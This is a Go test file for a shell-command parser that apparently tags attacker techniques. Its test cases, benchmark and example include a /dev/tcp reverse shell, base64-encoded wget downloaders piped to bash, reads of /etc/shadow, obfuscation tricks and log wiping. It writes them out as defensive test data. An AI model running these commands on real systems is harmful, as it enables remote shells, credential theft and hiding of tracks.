package shell_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"ttp-worker/tagger/shell"
)

// summary is the text of a command, then what is unusual about it.
func summary(c shell.Command) string {
	s := c.Text
	if c.ParentProgram != "" {
		s += " <- " + c.ParentProgram
	}
	if c.Decoded {
		s += " (decoded)"
	}
	return s
}

func summaries(commands []shell.Command) []string {
	var list []string
	for _, c := range commands {
		list = append(list, summary(c))
	}
	return list
}

var lines = []struct {
	name, line string
	want       []string
}{
	{"one word", `id`, []string{"id"}},
	{"nothing", `  `, nil},
	{"a comment", `# ls`, nil},
	{"arguments", `ls -la /tmp`, []string{"ls -la /tmp"}},
	{"blanks in a row", "ls \t -la", []string{"ls -la"}},
	{"a list", `cd /tmp; ls`, []string{"cd /tmp", "ls"}},
	{"and, or", `cd /tmp || cd /var && ls`, []string{"cd /tmp", "cd /var", "ls"}},
	{"a pipeline", `ps aux | grep x | wc -l`, []string{"ps aux", "grep x", "wc -l"}},
	{"the background", `./x & ls`, []string{"./x", "ls"}},
	{"a trailing ampersand", `nohup ./x &`, []string{"nohup ./x", "./x <- nohup"}},
	{"line ends of Windows", "cd /tmp\r\nls\r\n", []string{"cd /tmp", "ls"}},
	{"a script in one line", `#!/bin/sh; cd /tmp; ls`, []string{"cd /tmp", "ls"}},
	{"a script", "#!/bin/sh\nls", []string{"ls"}},
	{"a zero byte", "l\x00s", []string{"ls"}},

	{"single quotes", `'ls' '-l a'`, []string{"ls -l a"}},
	{"double quotes", `"ls" "a $b"`, []string{"ls a $b"}},
	{"quotes inside a word", `w'g'et c""url`, []string{"wget curl"}},
	{"backslashes", `\w\g\e\t x`, []string{"wget x"}},
	{"backslashes between double quotes", `echo "a\"b\d\\"`, []string{`echo a"b\d\`}},
	{"ANSI-C quotes", `$'\x69\144' $'a\tb'`, []string{"id a\tb"}},
	{"a line continued", "wg\\\net x", []string{"wget x"}},
	{"braces for blanks", `{cat,/etc/passwd}`, []string{"cat /etc/passwd"}},
	{"braces that are no list", `echo {} {a}`, []string{"echo {} {a}"}},

	{"IFS for a blank", `cat${IFS}/etc/passwd`, []string{"cat /etc/passwd"}},
	{"IFS and a positional parameter", `cat$IFS$9/etc/passwd`, []string{"cat /etc/passwd"}},
	{"a variable", `a=/tmp; cd $a`, []string{"a=/tmp", "cd /tmp"}},
	{"a name in two variables", `a=wg; b=et; $a$b http://x`, []string{"a=wg", "b=et", "wget http://x"}},
	{"a variable with blanks", `c="ls -l"; $c`, []string{"c=ls -l", "ls -l"}},
	{"a quoted variable with blanks", `c="a b"; ls "$c"/x`, []string{"c=a b", "ls a b/x"}},
	{"an exported variable", `export A=id; $A`, []string{"export A=id", "id"}},
	{"a variable appended to", `a=i; a+=d; $a`, []string{"a=i", "a=id", "id"}},
	{"an unknown variable", `wget $url`, []string{"wget $url"}},
	{"an unset variable in a name", `who${x}ami`, []string{"whoami"}},
	{"no parameter in a name", `w$@get x`, []string{"wget x"}},
	{"a default", `${x:-ls} ${y-a}`, []string{"ls a"}},
	{"a part of a variable", `a=xidx; ${a:1:2}`, []string{"a=xidx", "id"}},
	{"the end of a variable", `a=xid; ${a:1}`, []string{"a=xid", "id"}},
	{"a replacement", `a=iXXd; ${a//X/}`, []string{"a=iXXd", "id"}},
	{"an operation that is not known", `a=b; echo ${a^^} ${#a}`, []string{"a=b", "echo ${a^^} ${#a}"}},
	{"assignments for one command", `LD_PRELOAD=/x.so A=1 ls`, []string{"LD_PRELOAD=/x.so A=1", "ls"}},
	{"an array", `a=(x $(id)); ls`, []string{"id", "a=(x $(id))", "ls"}},

	{"redirections", `a > b 2>>c < d`, []string{"a >b 2>>c <d"}},
	{"a redirection alone", `> /var/log/wtmp`, []string{">/var/log/wtmp"}},
	{"a redirection of a block", `(id; w) > x`, []string{"id", "w", ">x"}},
	{"a loop", `for i in a b; do wget $i; done`, []string{"wget $i"}},
	{"while read", `while read l; do echo $l; done < f`, []string{"read l", "echo $l", "<f"}},
	{"a condition", `if [ -f x ]; then cat x; else ls; fi`, []string{"[ -f x ]", "cat x", "ls"}},
	{"a case", `case $x in a) id;; *) w;; esac`, []string{"id", "w"}},
	{"a function", `f() { id; }; f`, []string{"id", "f"}},
	{"a substitution", `echo $(uname -a)`, []string{"uname -a", "echo $(uname -a)"}},
	{"backquotes", "kill `pidof x`", []string{"pidof x", "kill `pidof x`"}},
	{"a substitution in double quotes", `echo "a $(id)"`, []string{"id", "echo a $(id)"}},
	{"a substitution with a known output", `$(echo who)ami`, []string{"echo who", "whoami"}},
	{"a process substitution", `bash <(curl x)`, []string{"curl x", "bash <(curl x)"}},
	{"a test", `[[ -n $(id) ]] && w`, []string{"id", "w"}},

	{"busybox", `/bin/busybox wget x`, []string{"/bin/busybox wget x", "wget x <- busybox"}},
	{"an applet that is none", `/bin/busybox SGGUW`, []string{"/bin/busybox SGGUW", "SGGUW <- busybox"}},
	{"sudo with options", `sudo -n -u root A=b id`, []string{"sudo -n -u root A=b id", "id <- sudo"}},
	{"sudo alone", `sudo -l`, []string{"sudo -l"}},
	{"wrappers in wrappers", `nohup timeout -s 9 5 ./x`, []string{"nohup timeout -s 9 5 ./x", "timeout -s 9 5 ./x <- nohup", "./x <- timeout"}},
	{"xargs", `ls | xargs -n 1 rm -f`, []string{"ls", "xargs -n 1 rm -f", "rm -f <- xargs"}},
	{"xargs with a known input", `echo /etc/passwd | xargs cat`, []string{"echo /etc/passwd", "xargs cat", "cat /etc/passwd <- xargs"}},
	{"asking for a command", `command -v wget`, []string{"command -v wget"}},
	{"find -exec", `find / -name x -exec rm {} \; -print`, []string{"find / -name x -exec rm {} ; -print", "rm {} <- find"}},
	{"redirections of a wrapper", `sudo cat a > b`, []string{"sudo cat a >b", "cat a >b <- sudo"}},
	{"a container", `kubectl exec p -- id`, []string{"kubectl exec p -- id", "id <- kubectl"}},
	{"a shell in a container", `docker run -it alpine sh -c 'id; w'`, []string{
		"docker run -it alpine sh -c id; w", "sh -c id; w <- docker", "id <- sh", "w <- sh",
	}},

	{"sh -c", `sh -c 'id; w'`, []string{"sh -c id; w", "id <- sh", "w <- sh"}},
	{"-c among options", `bash -lc id arg`, []string{"bash -lc id arg", "id <- bash"}},
	{"a script file", `sh -x ./f.sh`, []string{"sh -x ./f.sh"}},
	{"-c behind an option with a value", `bash -o pipefail +x --rcfile f -c -- id`, []string{
		"bash -o pipefail +x --rcfile f -c -- id", "id <- bash",
	}},
	{"a script named with its own -c", `sh f.sh -c id`, []string{"sh f.sh -c id"}},
	{"su -c", `su - root -c "id -u"`, []string{"su - root -c id -u", "id -u <- su"}},
	{"eval", `eval "wg"et x`, []string{"eval wget x", "wget x <- eval"}},
	{"ssh", `ssh -p 22 u@h 'cd /tmp; ls'`, []string{"ssh -p 22 u@h cd /tmp; ls", "cd /tmp <- ssh", "ls <- ssh"}},
	{"a here-document", "bash <<EOF\nid\nw\nEOF", []string{"bash <<EOF", "id <- bash", "w <- bash"}},
	{"a here-string", `sh <<< "id; w"`, []string{"sh <<<id; w", "id <- sh", "w <- sh"}},
	{"a here-document for a file", "cat > x <<EOF\nid\nEOF", []string{"cat >x <<EOF"}},
	{"echo into a shell", `echo "id; w" | sh`, []string{"echo id; w", "sh", "id <- sh", "w <- sh"}},
	{"echo -e into a shell", `echo -e '\x69\x64' | bash`, []string{`echo -e \x69\x64`, "bash", "id <- bash (decoded)"}},
	{"printf into a shell", `printf '\x69%s' d | sh`, []string{`printf \x69%s d`, "sh", "id <- sh (decoded)"}},
	{"base64 into a shell", `echo aWQ= | base64 -d | bash`, []string{"echo aWQ=", "base64 -d", "bash", "id <- bash (decoded)"}},
	{"base64 through openssl", `echo aWQ= | openssl enc -d -base64 | sudo sh`, []string{
		"echo aWQ=", "openssl enc -d -base64", "sudo sh", "sh <- sudo", "id <- sh (decoded)",
	}},
	{"hex into a shell", `echo 6964 | xxd -r -p | sh`, []string{"echo 6964", "xxd -r -p", "sh", "id <- sh (decoded)"}},
	{"text backwards", `echo di | rev | sh`, []string{"echo di", "rev", "sh", "id <- sh (decoded)"}},
	{"base64 in a substitution", `bash -c "$(echo aWQ= | base64 --decode)"`, []string{
		"echo aWQ=", "base64 --decode", "bash -c id", "id <- bash (decoded)",
	}},
	{"a here-string in base64", `bash -c "$(base64 -d <<< aWQ=)"`, []string{"base64 -d <<<aWQ=", "bash -c id", "id <- bash (decoded)"}},
	{"a binary for a shell", `echo -e '\x7fELF\x01' | sh`, []string{`echo -e \x7fELF\x01`, "sh"}},
	{"input named as a file", `echo id | bash /dev/stdin`, []string{"echo id", "bash /dev/stdin", "id <- bash"}},
	{"input sourced", `echo id | source /dev/stdin`, []string{"echo id", "source /dev/stdin", "id <- source"}},
	{"a script that takes its input", `echo id | sh ./f`, []string{"echo id", "sh ./f"}},
	{"a job for at", `echo id | at now`, []string{"echo id", "at now", "id <- at"}},
	{"a trap", `trap 'id' EXIT; trap -l`, []string{"trap id EXIT", "id <- trap", "trap -l"}},
	{"a lock", `flock -n /l -c 'id'`, []string{"flock -n /l -c id", "id <- flock"}},
	{"script", `script -qc id /dev/null; su --command=w`, []string{
		"script -qc id /dev/null", "id <- script", "su --command=w", "w <- su",
	}},
	{"printf with directives", `printf -- '%b%s%%' '\151' 'd;w #' | sh`, []string{
		`printf -- %b%s%% \151 d;w #`, "sh", "id <- sh", "w <- sh",
	}},
	{"a copy of the input", `echo id | cat - | tee | sh; echo w | cat x | sh`, []string{
		"echo id", "cat -", "tee", "sh", "id <- sh", "echo w", "cat x", "sh",
	}},
	{"base64 that is not undone", `echo id | base64 | sh`, []string{"echo id", "base64", "sh"}},
	{"two substitutions, one decoded", `bash -c "$(echo aWQ= | base64 -d)" $(echo x)`, []string{
		"echo aWQ=", "base64 -d", "echo x", "bash -c id x", "id <- bash (decoded)",
	}},
	{"a substitution of several commands", `echo $(id; w)`, []string{"id", "w", "echo $(id; w)"}},
	{"a command for xargs -I", `ls | xargs -I {} sh -c 'cat {}'`, []string{
		"ls", "xargs -I {} sh -c cat {}", "sh -c cat {} <- xargs", "cat {} <- sh",
	}},
	{"wrapper options", `sudo --user root -- id; env -i A=1 w; timeout --signal=9 5 ls; chroot /mnt`, []string{
		"sudo --user root -- id", "id <- sudo", "env -i A=1 w", "w <- env",
		"timeout --signal=9 5 ls", "ls <- timeout", "chroot /mnt",
	}},
	{"a container's entry point", `docker run --entrypoint sh alpine; docker ps`, []string{
		"docker run --entrypoint sh alpine", "docker ps",
	}},
	{"find without an end", `find . -execdir chmod +x {} + -o -exec`, []string{"find . -execdir chmod +x {} + -o -exec", "chmod +x {} <- find"}},
	{"a declaration without a value", `declare -x A B=1; local`, []string{"declare -x A B=1", "local"}},
	{"escapes", `$'l\u0073' $'\U0000002dl' $'\x' $'\q\\\'\"\060\7'`, []string{"ls -l \\x \\q\\'\"0\a"}},
	{"variables that are cut beyond their end", `a=id; ${a:9} ${a:x} ${a:0:9}`, []string{"a=id", "${a:9} ${a:x} id"}},
	{"a replacement by a pattern", `a=id; ${a/*/x} ${a/i/w}`, []string{"a=id", "${a/*/x} wd"}},
	{"time", `time -p ls; time`, []string{"ls"}},
	{"an unknown input", `curl x | sh`, []string{"curl x", "sh"}},
}

func TestParse(t *testing.T) {
	t.Parallel()
	for _, tt := range lines {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			commands, ok := shell.Parse(tt.line)
			if !ok {
				t.Errorf("%s: not ok", tt.line)
			}
			if diff := cmp.Diff(tt.want, summaries(commands)); diff != "" {
				t.Errorf("%s (-want +got):\n%s", tt.line, diff)
			}
		})
	}
}

func TestParse_of_broken_text_keeps_what_can_be_read(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, line string
		want       []string
	}{
		{"a single quote left open", `ls 'a; id`, []string{"ls 'a", "id"}},
		{"a double quote left open", `cd /tmp && echo "x; id`, []string{"cd /tmp", `echo "x`, "id"}},
		{"quotes of another kind still count", `ls "a; b" 'c; id`, []string{"ls a; b 'c", "id"}},
		{"a bracket left open", `(cd /tmp; ls`, []string{"cd /tmp", "ls"}},
		{"a bracket too many", `cd /tmp; ls)`, []string{"cd /tmp", "ls"}},
		{"a loop without an end", `while true; do wget x`, []string{"true", "wget x"}},
		{"a condition without an end", `if [ -f x ]; then cat x >> y`, []string{"[ -f x ]", "cat x >>y"}},
		{"an end alone", `done; id`, []string{"id"}},
		{"an operator without a right side", `id &&`, []string{"id"}},
		{"a here-document without an end", `cat > x << EOF`, []string{"cat >x <<EOF"}},
		{"a redirection without a target", `id >`, []string{"id >"}},
		{"braces that lost their quotes", `awk {print $4,$5;}`, []string{"awk {print ,"}},
		{"redirections of both", `'; x &> a 2>&1`, []string{"'", "x &>a 2>&1"}},
		{"a substitution left open", `echo $(id; w`, []string{"echo $(id", "w"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			commands, ok := shell.Parse(tt.line)
			if ok {
				t.Errorf("%s: ok", tt.line)
			}
			if diff := cmp.Diff(tt.want, summaries(commands)); diff != "" {
				t.Errorf("%s (-want +got):\n%s", tt.line, diff)
			}
		})
	}
}

func TestParse_fields(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]shell.Command{
		`/usr/bin/wget -q http://x -O /tmp/x`: {
			Text: "/usr/bin/wget -q http://x -O /tmp/x", Program: "wget", Path: "/usr/bin/wget",
			Args: []string{"-q", "http://x", "-O", "/tmp/x"},
		},
		`cat <a 2>/dev/null >> b 3<>c`: {
			Text: "cat <a 2>/dev/null >>b 3<>c", Program: "cat", Args: []string{},
			Writes: []string{"/dev/null", "b", "c"}, Reads: []string{"a", "c"},
		},
		`bash -i >& /dev/tcp/192.0.2.1/99 0>&1`: {
			Text: "bash -i >&/dev/tcp/192.0.2.1/99 0>&1", Program: "bash", Args: []string{"-i"},
			Writes: []string{"/dev/tcp/192.0.2.1/99"},
		},
		`HISTSIZE=0`: {Text: "HISTSIZE=0", Args: []string{"HISTSIZE=0"}},
		`>x`:         {Text: ">x", Writes: []string{"x"}},
		`cat <<< x`:  {Text: "cat <<<x", Program: "cat", Args: []string{}},
	} {
		commands, ok := shell.Parse(line)
		if diff := cmp.Diff([]shell.Command{want}, commands); diff != "" || !ok {
			t.Errorf("%s: ok %v (-want +got):\n%s", line, ok, diff)
		}
	}
}

func TestParse_names_the_parent(t *testing.T) {
	t.Parallel()
	commands, _ := shell.Parse(`sudo sh -c 'id'; id`)
	got := commands[2].ParentText + " | " + commands[1].ParentText + " | " + commands[3].ParentText
	if want := "sh -c id | sudo sh -c id | "; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestParse_limits(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, line string
		commands   int
	}{
		{"a line of more than 64 KiB, its begin and its end", "ls " + strings.Repeat("a", 64<<10), 2},
		{"256 commands and the last 128", strings.Repeat("ls;", 300), 383},
		{"256 commands of broken text and the last 128", strings.Repeat("ls;", 300) + "'", 384},
		{"sixteen levels of commands", strings.Repeat("sudo ", 40), 16},
		{"sixteen levels of scripts", strings.Repeat("eval ", 40) + "ls", 16},
		{"sixteen levels of subshells", strings.Repeat("( ", 17) + "ls" + strings.Repeat(" )", 17), 0},
		{"64 KiB of variables", "a=" + strings.Repeat("x", 9<<10) + ";" + strings.Repeat("a=$a$a;", 20) + "ls", 22},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			commands, ok := shell.Parse(tt.line)
			if ok || len(commands) != tt.commands {
				t.Errorf("ok %v, %d commands, want %d", ok, len(commands), tt.commands)
			}
		})
	}
}

// Text is bounded whatever a line does: 64 KiB typed, as much made by it, and
// each command's words again in the texts of up to 16 wrappers around it.
func checkBounds(t *testing.T, commands []shell.Command) {
	t.Helper()
	if len(commands) > 256+128 {
		t.Errorf("%d commands", len(commands))
	}
	for _, c := range commands {
		if len(c.Text) > 256<<10 {
			t.Errorf("a command of %d bytes", len(c.Text))
		}
		if strings.Contains(c.Program, "/") {
			t.Errorf("program %q", c.Program)
		}
	}
}

// The parser underneath recurses; a stack that overflows would end the process.
func TestParse_survives_deep_nesting(t *testing.T) {
	t.Parallel()
	for _, open := range []string{
		"(", "((", "$(", "$((", "{ ", "`", "if ", "while ", "! ", "a|", "a&&", "${a:-", "$((-", "$((1?", "((a=", "a[",
		"[[ ! ", "@(", `"$(`, "<(", "case x in x) ", "f() ", "time ", "<<a\n", "{a,", "'", `"`, `\`, "echo x|", "a=$a$a;", "${a//",
	} {
		commands, _ := shell.Parse(strings.Repeat(open, 64<<10/len(open)))
		checkBounds(t, commands)
	}
	for _, operator := range []string{"-", "!", "~", "1?", "a=", "1**", "1+"} {
		commands, _ := shell.Parse("echo $((" + strings.Repeat(operator, 60<<10/len(operator)) + "1))")
		checkBounds(t, commands)
	}
}

func FuzzParse(f *testing.F) {
	for _, tt := range lines {
		f.Add(tt.line)
	}
	f.Fuzz(func(t *testing.T, line string) {
		commands, ok := shell.Parse(line)
		checkBounds(t, commands)
		again, okAgain := shell.Parse(line)
		if diff := cmp.Diff(commands, again); diff != "" || ok != okAgain {
			t.Errorf("parsed twice: %s", diff)
		}
	})
}

// go test -run '^$' -bench . ./tagger/shell
func BenchmarkParse(b *testing.B) {
	for name, line := range map[string]string{
		"word":    `uname -a`,
		"list":    `cd /tmp || cd /var/run; wget http://192.0.2.1/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh`,
		"decoded": `echo d2dldCBodHRwOi8vMTkyLjAuMi4xL3guc2g= | base64 -d | bash`,
		"broken":  `echo "x; cd /tmp; ls -la`,
	} {
		b.Run("line="+name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				shell.Parse(line)
			}
		})
	}
}

func ExampleParse() {
	commands, _ := shell.Parse(`cd /tmp; echo d2dldCBodHRwOi8vMTkyLjAuMi4xL3g= | base64 -d | sudo sh`)
	for _, c := range commands {
		fmt.Printf("%s %q %v\n", c.Program, c.Args, c.Decoded)
	}
	// Output:
	// cd ["/tmp"] false
	// echo ["d2dldCBodHRwOi8vMTkyLjAuMi4xL3g="] false
	// base64 ["-d"] false
	// sudo ["sh"] false
	// sh [] false
	// wget ["http://192.0.2.1/x"] true
}

// What follows any amount of padding is what the attacker is there for.
func TestParse_readsTheEndOfALineBeyondTheLimits(t *testing.T) {
	for name, padding := range map[string]string{
		"many commands":    strings.Repeat(":;", 300),
		"64 KiB of them":   strings.Repeat("echo a b c && ", 5000),
		"one long word":    "echo " + strings.Repeat("é", 1<<20) + "; ",
		"no shell's words": ") " + strings.Repeat("aaaaaaaaa ", 5_000) + "; ",
		"nothing to read":  strings.Repeat("(((", 30_000) + ";",
	} {
		commands, ok := shell.Parse(padding + "cat /etc/shadow")
		last := shell.Command{}
		if len(commands) > 0 {
			last = commands[len(commands)-1]
		}
		if ok || last.Text != "cat /etc/shadow" || len(commands) > 512 {
			t.Errorf("%s: %d commands, the last is %.50q, ok %v", name, len(commands), last.Text, ok)
		}
	}
}
